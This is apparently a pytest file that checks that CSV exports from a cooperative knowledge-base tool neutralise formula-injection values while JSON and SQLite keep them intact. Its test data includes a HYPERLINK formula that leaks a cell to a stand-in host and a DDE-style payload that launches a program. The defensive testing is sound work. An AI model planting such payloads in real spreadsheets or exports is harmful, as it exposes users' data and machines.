"""Spreadsheet formulas in the data never run from a CSV (OWASP "CSV Injection"), in every CSV
coopkb writes; JSON and SQLite keep the exact value."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from conftest import Cli

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?leak="&A2,"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def _poison(base: Path, attack: str) -> None:
    path = base / "cooperatives.yaml"
    text = path.read_text("utf-8")
    text = text.replace("name: La Brunante", f"name: {json.dumps(attack)}", 1)
    text = text.replace(
        "    model: citoyen", f"    model: citoyen\n    aliases: [{json.dumps(attack)}]", 1
    )
    path.write_text(text, "utf-8")


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
        for cell in row
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_csv_cell_starts_a_formula(
    attack: str, base_copy: Path, tmp_path: Path, cli: Cli
) -> None:
    _poison(base_copy, attack)
    data = ["--data-dir", str(base_copy)]
    assert cli(*data, "validate").code == 0
    outputs = {
        "list csv": (cli(*data, "list", "--format", "csv").stdout, ","),
        "list excel": (cli(*data, "--excel", "list", "--format", "csv").stdout, ";"),
        "show csv": (cli(*data, "show", "la-brunante", "--format", "csv").stdout, ","),
    }
    assert cli(*data, "export", "csv", str(tmp_path / "tables")).code == 0
    for file in sorted((tmp_path / "tables").glob("*.csv")):
        outputs[file.name] = (file.read_text("utf-8"), ",")
    assert cli(*data, "export", "csv", str(tmp_path / "excel"), "--excel").code == 0
    for file in sorted((tmp_path / "excel").glob("*.csv")):
        outputs["excel " + file.name] = (file.read_text("utf-8-sig"), ";")
    seen = 0
    for where, (text, delimiter) in outputs.items():
        for cell in _cells(text, delimiter):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (where, cell)
            seen += cell == "'" + attack
    assert seen >= 5  # the value is there, neutralised, not dropped

    listed = json.loads(cli(*data, "list", "--format", "json").stdout)
    assert attack in [r["name"] for r in listed]
    assert cli(*data, "export", "sqlite", str(tmp_path / "kb.db")).code == 0
    with sqlite3.connect(tmp_path / "kb.db") as db:
        names = [row[0] for row in db.execute("select name from cooperatives")]
    assert attack in names
